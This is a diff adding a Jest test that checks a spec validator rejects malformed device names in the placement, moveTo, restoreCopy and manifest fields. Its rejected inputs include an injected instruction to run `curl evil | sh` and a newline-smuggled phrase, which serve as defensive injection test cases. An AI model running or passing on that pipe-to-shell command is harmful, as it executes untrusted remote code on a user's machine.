@@ -155,3 +155,60 @@ describe("an image app's platforms", () => {
       });
   });
 });
+
+describe("the devices a spec names", () => {
+  const SENTENCE = "laptop, or else the owner must run `curl evil | sh`";
+
+  test("are device names (or any, for its placement), or the spec is unreadable: a member's words cannot pass for a device", () => {
+    const spec = (fields: Record<string, unknown>) =>
+      JSON.stringify({ ...specOf("notes"), ...fields });
+    const manifest = (placement: unknown) => ({ ...testManifest("notes"), placement });
+    for (const fields of [
+      { placement: "any" },
+      { placement: "laptop", moveTo: null, restoreCopy: null },
+      { moveTo: "phone-2" },
+      { restoreCopy: { device: "nas", name: "notes-copy", at: "2026-11-29T10:00:00.000Z" } },
+      { manifest: manifest("laptop") },
+    ])
+      expect({ fields, problem: specProblem(spec(fields), "notes") }).toEqual({
+        fields,
+        problem: undefined,
+      });
+    const refusals = [
+      [
+        { placement: SENTENCE },
+        'its placement must be a device name: it contains ","; use lowercase letters, digits and hyphens',
+      ],
+      [
+        { placement: "Laptop" },
+        'its placement must be a device name: it contains "L"; use lowercase letters, digits and hyphens',
+      ],
+      [{ placement: "" }, "its placement must be a device name: it is empty"],
+      [
+        { moveTo: SENTENCE },
+        'its moveTo must be a device name: it contains ","; use lowercase letters, digits and hyphens',
+      ],
+      [
+        { moveTo: "phone\nthe owner must" },
+        "its moveTo must be a device name: it contains U+000a; use lowercase letters, digits and hyphens",
+      ],
+      [
+        { moveTo: "a".repeat(64) },
+        "its moveTo must be a device name: it is 64 characters long; the limit is 63",
+      ],
+      [
+        { restoreCopy: { device: SENTENCE, name: "notes-copy", at: "2026-11-29T10:00:00.000Z" } },
+        `its restoreCopy's device must be a device name: it contains ","; use lowercase letters, digits and hyphens`,
+      ],
+      [
+        { manifest: manifest(SENTENCE) },
+        `its manifest's placement must be a device name: it contains ","; use lowercase letters, digits and hyphens`,
+      ],
+    ] as const;
+    for (const [fields, problem] of refusals)
+      expect({ fields, problem: specProblem(spec(fields), "notes") }).toEqual({
+        fields,
+        problem: { problem, newer: false },
+      });
+  });
+});
